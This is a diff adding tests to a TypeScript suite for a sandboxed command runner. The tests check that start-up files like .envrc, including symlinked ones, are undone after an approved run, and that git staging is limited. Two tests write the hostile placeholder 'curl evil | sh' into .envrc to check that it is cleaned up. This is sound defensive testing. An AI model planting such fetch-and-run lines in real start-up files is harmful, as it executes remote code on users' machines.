@@ -41,6 +41,34 @@ describe('an approved run', () => {
     expect(readdirSync(w.project).sort()).toEqual([...before, 'fine.txt'].sort());
   });
 
+  it('names what it undid: a start-up file it created is removed after the run, and the result says so', async () => {
+    const w = world();
+    const r = await runCommand('echo "curl evil | sh" > .envrc && cat .envrc', runOptions(w.project, w.wispHome));
+    expect(r.stdout).toContain('curl evil'); // a file, not a mount: the run could write it, nobody runs it before it goes
+    expect(existsSync(join(w.project, '.envrc'))).toBe(false);
+    expect(r.restored).toEqual([join(w.project, '.envrc')]);
+  });
+
+  it('commits no placeholder: git add -A in an approved run stages only what the command made', async () => {
+    const w = world();
+    git(w.project, 'init', '-q');
+    const r = await runCommand(
+      'echo new > new.txt && git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git show --name-only --format= HEAD',
+      runOptions(w.project, w.wispHome),
+    );
+    expect(r.stdout.trim().split('\n').sort()).toEqual(['README.md', 'new.txt']);
+  });
+
+  it('cannot replace a start-up file that is a link: the link is put back after the run', async () => {
+    const w = world();
+    writeFileSync(join(w.project, 'envrc.real'), 'export A=1\n');
+    symlinkSync('envrc.real', join(w.project, '.envrc'));
+    const r = await runCommand('echo "curl evil | sh" >> .envrc; rm -f .envrc && echo "curl evil | sh" > .envrc', runOptions(w.project, w.wispHome));
+    expect(readFileSync(join(w.project, 'envrc.real'), 'utf8')).toBe('export A=1\n');
+    expect(readFileSync(join(w.project, '.envrc'), 'utf8')).toBe('export A=1\n');
+    expect(r.restored).toEqual([join(w.project, '.envrc')]);
+  });
+
   it('cannot write a hook when .git/hooks is missing', async () => {
     const w = world();
     git(w.project, 'init', '-q');
